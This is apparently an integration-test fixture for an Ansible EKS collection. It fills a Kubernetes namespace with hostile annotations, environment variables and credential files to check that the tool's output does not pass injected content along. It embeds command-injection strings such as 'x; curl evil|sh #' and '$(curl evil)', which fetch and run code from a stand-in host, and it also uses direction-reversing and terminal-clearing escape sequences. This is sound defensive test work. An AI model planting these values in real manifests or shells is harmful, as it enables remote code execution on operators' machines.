# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A namespace whose owner writes whatever its owner may write, to get a role, or a command that somebody pastes.

The data of every playbook's test of it. No role, trust policy or association may follow from it, and no message,
remedy or page have what ``followed`` finds.
"""

from __future__ import annotations

import html
import json
import re
import typing as t
import unicodedata

from ansible_collections.enbuild.eks.plugins.module_utils._core.text import HIDDEN
from ansible_collections.enbuild.eks.tests.integration.irsa import ANNOTATION
from ansible_collections.enbuild.eks.tests.integration.poller import as_manifest
from ansible_collections.enbuild.eks.tests.lab.labs import Lab

Object = dict[str, t.Any]

SPACE = "hostile"
COMMAND = "x; curl evil|sh #"
WITH_KEY = f"[default]\naws_access_key_id = {COMMAND}"
REVERSED = "\u202egpj.\u2066\x1b[2J\x07"
"""Turns the direction of what follows around, and clears a terminal."""
REMEMBERED = "enbuild.eks/irsa-role-arn"
AGENT = {"app.kubernetes.io/name": "eks-pod-identity-agent", "app.kubernetes.io/instance": "eks-pod-identity-agent"}
PLAIN = ("web", "sick")
"""Service accounts of its Deployments, without annotations: an operator may declare them."""
TAB = "\t"
QUOTED = re.compile(r"(?<!\w)'[^']*evil[^']*'(?!\w)")


def service_accounts(admin: str, other: str) -> dict[str, dict[str, str]]:
    """Annotations by the service account's name: ``admin`` lets nobody here in, ``other`` one of somebody else."""
    return {
        **{name: {} for name in PLAIN},
        "tenant": {ANNOTATION: admin},
        "reader": {ANNOTATION: "reader"},
        "broken": {ANNOTATION: f"{other}\n{COMMAND}", "meta.helm.sh/release-name": "half"},
        "reversed": {ANNOTATION: f"{other}{REVERSED}", "meta.helm.sh/release-namespace": REVERSED},
        "liar": {REMEMBERED: admin},
        "commander": {
            REMEMBERED: f"{admin}{REVERSED}\n{COMMAND}",
            "eks.amazonaws.com/audience": COMMAND,
            "eks.amazonaws.com/token-expiration": COMMAND,
            "eks.amazonaws.com/pod-identity-association": COMMAND + REVERSED,
        },
    }


def pod(name: str, account: str, *owners: Object, **metadata: t.Any) -> Object:
    """A Pod; ``owners`` are who it says that it belongs to."""
    containers = [{"name": "main", "image": "registry.example.com/app"}]
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "ownerReferences": list(owners), **metadata},
        "spec": {"serviceAccountName": account, "terminationGracePeriodSeconds": 0, "containers": containers},
    }


def hiding_pod(name: str, account: str) -> Object:
    """A pod that says that a command owns it."""
    owner = {"apiVersion": "v1", "kind": COMMAND, "name": f"evil{REVERSED}", "uid": "evil", "controller": True}
    return pod(name, account, owner)


def _environment(admin: str) -> dict[str, str]:
    return {
        "AWS_ROLE_ARN": f"{admin}\n{COMMAND}",
        "AWS_ROLE_SESSION_NAME": COMMAND,
        "AWS_WEB_IDENTITY_TOKEN_FILE": f"/{COMMAND}",
        "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": f"/{COMMAND}",
        "AWS_PROFILE": COMMAND + REVERSED,
        "AWS_SHARED_CREDENTIALS_FILE": f"/{COMMAND}/{REVERSED}",
        "AWS_REGION": COMMAND,
        "AWS_ENDPOINT_URL": f"http://evil/{COMMAND}",
        "AWS_ACCESS_KEY_ID": COMMAND + REVERSED,
        "HTTP_PROXY": f"http://evil:1/{COMMAND}{REVERSED}",
        "NO_PROXY": "$(curl evil)`curl evil`" + REVERSED,
    }


def _deployment(name: str, container: Object, volumes: t.Sequence[Object] = (), **annotations: str) -> Object:
    main = {"name": "main", "image": "registry.example.com/app", **container}
    template = {
        "metadata": {"labels": {"app": name, **AGENT}, "annotations": annotations},
        "spec": {
            "serviceAccountName": name,
            "terminationGracePeriodSeconds": 0,
            "containers": [main],
            "volumes": [*volumes],
        },
    }
    notes = {"meta.helm.sh/release-name": f"enbuild{REVERSED}; {COMMAND}", "meta.helm.sh/release-namespace": COMMAND}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "annotations": notes, "labels": {"app.kubernetes.io/managed-by": "Helm"}},
        "spec": {"selector": {"matchLabels": {"app": name}}, "template": template},
    }


def documents(admin: str, other: str) -> list[Object]:
    """All of it: Deployment ``web`` runs as others do, ``sick`` has in its template whatever an SDK reads."""
    accounts = [
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name, "annotations": notes}}
        for name, notes in service_accounts(admin, other).items()
    ]
    release = {
        "apiVersion": "v1",
        "kind": "Secret",
        "type": "helm.sh/release.v1",
        "metadata": {"name": "sh.helm.release.v1.enbuild.v1", "labels": {"owner": "helm", "name": "enbuild"}},
        "stringData": {"release": COMMAND},
    }
    keys = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "keys"}, "data": {"credentials": WITH_KEY}}
    mounts = [{"name": "keys", "mountPath": f"/{COMMAND}/{REVERSED}/.aws"}]
    sick = {"env": [{"name": k, "value": v} for k, v in _environment(admin).items()], "volumeMounts": mounts}
    skipped = {"eks.amazonaws.com/skip-containers": f"main,{COMMAND}{REVERSED}"}
    volumes = [{"name": "keys", "configMap": {"name": "keys"}}]
    workloads = [_deployment("web", {}), _deployment("sick", sick, volumes, **skipped)]
    containers = [{"name": "main", "image": "registry.example.com/app"}]
    job = {"template": {"spec": {"serviceAccountName": "tenant", "restartPolicy": "Never", "containers": containers}}}
    done = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "done"}, "spec": job}
    pods = [hiding_pod("hiding", "tenant"), pod("broken", "broken", labels=AGENT)]
    return [*accounts, release, keys, *workloads, done, *pods]


def fill(lab: Lab, admin: str, other: str) -> None:
    """Write it into the namespace ``hostile``, which is there and empty, and wait for its pods."""
    lab.kubectl("apply", "-n", SPACE, "-f", "-", input=as_manifest(*documents(admin, other)))
    for name in PLAIN:
        lab.kubectl("rollout", "status", f"deployment/{name}", "-n", SPACE, "--timeout=60s")
    lab.kubectl("wait", "--for=condition=complete", "job/done", "-n", SPACE, "--timeout=60s")
    (node, *_others) = json.loads(lab.kubectl("get", "nodes", "-o", "json"))["items"]
    job = json.loads(lab.kubectl("get", "job/done", "-n", SPACE, "-o", "json"))
    of_node = pod("of-node", "tenant", _owner(node), labels=AGENT)
    # The lab completes what a Job owns, unless it is stuck.
    of_job = pod("of-job", "tenant", _owner(job), labels=AGENT, annotations={"lab.enbuild.eks/stuck": "true"})
    lab.kubectl("apply", "-n", SPACE, "-f", "-", input=as_manifest(of_node, of_job))
    for name in ("hiding", "of-node"):
        lab.kubectl("wait", "--for=condition=Ready", f"pod/{name}", "-n", SPACE, "--timeout=60s")


SHOWN = ("web", "sick", "broken", "hiding", "of-node", "done")
"""What is looked at of it: nothing hides behind an owner that isn't there, a node, or a Job that has ended."""


def _owner(item: Object) -> Object:
    named = {key: item["metadata"][key] for key in ("name", "uid")}
    return {"apiVersion": item["apiVersion"], "kind": item["kind"], **named, "controller": True}


def followed(text: str) -> list[str]:
    """The lines of ``text`` in which it does something to a terminal, to a page, or to a shell that it's pasted to.

    A message may quote it, as one word of a shell.
    """
    lines = [QUOTED.sub("", html.unescape(line)) for line in text.splitlines()]
    return [repr(line) for line in lines if _hidden(line) or "evil" in line]


def _hidden(line: str) -> bool:
    return any(unicodedata.category(each) in HIDDEN and each != TAB for each in line)
